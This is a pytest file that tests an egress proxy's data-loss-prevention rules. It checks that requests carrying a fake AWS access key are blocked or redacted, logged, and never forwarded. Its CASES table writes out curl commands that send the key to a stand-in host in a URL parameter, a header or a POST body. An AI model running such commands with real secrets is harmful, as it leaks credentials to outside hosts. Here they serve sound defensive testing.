"""Invariant 4: a secret in the URL, a header or the body is blocked and logged, on a plain route
and on a credentialed one, and nothing of it reaches the upstream."""

from __future__ import annotations

import json
import secrets

import pytest

# A fake AWS access key id: the shape DLP knows, random so no real key is ever used.
def fake_aws_key() -> str:
    return "AKIA" + "".join(secrets.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(16))


CASES = {
    "url": lambda key, url: ["curl", "-sS", "-m", "10", f"{url}?leak={key}"],
    "header": lambda key, url: ["curl", "-sS", "-m", "10", "-H", f"X-Debug: {key}", url],
    "body": lambda key, url: ["curl", "-sS", "-m", "10", "-X", "POST", "--data-binary", f"config: {key}", url],
}


@pytest.mark.parametrize("where", sorted(CASES))
@pytest.mark.parametrize("host", ["upstream.test"])
def test_secret_in_request_is_blocked_logged_and_never_arrives(bottle_a, where, host):
    key = fake_aws_key()
    path = f"/dlp-{where}-{secrets.token_hex(4)}"
    proc = bottle_a.exec(*CASES[where](key, f"https://{host}{path}"), "-D", "-")
    status_lines = [l for l in proc.stdout.splitlines() if l.startswith("HTTP/") and "Connection established" not in l]
    assert status_lines and " 403" in status_lines[0], proc.stdout + proc.stderr
    assert "dlp_match" in proc.stdout
    arrived = [r for r in bottle_a.upstream_log() if r.get("path", "").startswith(path)]
    assert not arrived, f"the request reached the upstream: {arrived}"
    assert key not in json.dumps(bottle_a.upstream_log())
    # Logged with the reason and the pattern, never with the secret itself.
    blocks = [json.loads(line.split("] ", 1)[1]) for line in bottle_a.bundle_log().splitlines()
              if line.startswith("[egress] {") and '"dlp_match"' in line and path in line]
    assert blocks, "the block was not logged"
    assert blocks[-1]["pattern"] and blocks[-1]["host"] == host
    assert key not in bottle_a.bundle_log()


@pytest.mark.parametrize("where", sorted(CASES))
def test_secret_to_the_model_api_is_redacted_logged_and_never_arrives(bottle_a, where):
    """The model API (dlp: redact by default) forwards the request with the key cut out, so a
    conversation that once held a key still works; the key itself never reaches the upstream."""
    key = fake_aws_key()
    path = f"/dlp-{where}-{secrets.token_hex(4)}"
    proc = bottle_a.exec(*CASES[where](key, f"https://api.anthropic.com{path}"), "-D", "-")
    assert "dlp_match" not in proc.stdout, proc.stdout + proc.stderr
    arrived = [r for r in bottle_a.upstream_log() if r.get("path", "").startswith(path)]
    assert len(arrived) == 1, proc.stdout + proc.stderr
    assert key not in json.dumps(arrived) and "[REDACTED:aws_access_key_id]" in json.dumps(arrived)
    assert key not in json.dumps(bottle_a.upstream_log()) and key not in bottle_a.bundle_log()
    redactions = [line for line in bottle_a.bundle_log().splitlines() if '"dlp_redacted"' in line and path in line]
    assert redactions, "the redaction was not logged"


def test_clean_request_on_the_same_routes_passes(bottle_a):
    """The twin of the DLP cases: the same request without a secret goes through on both routes."""
    for host in ("upstream.test", "api.anthropic.com"):
        path = f"/clean-{secrets.token_hex(4)}"
        proc = bottle_a.exec("curl", "-sS", "-m", "10", "-X", "POST", "--data-binary", "config: harmless", f"https://{host}{path}")
        assert proc.returncode == 0 and f'"path": "{path}"' in proc.stdout, proc.stdout + proc.stderr
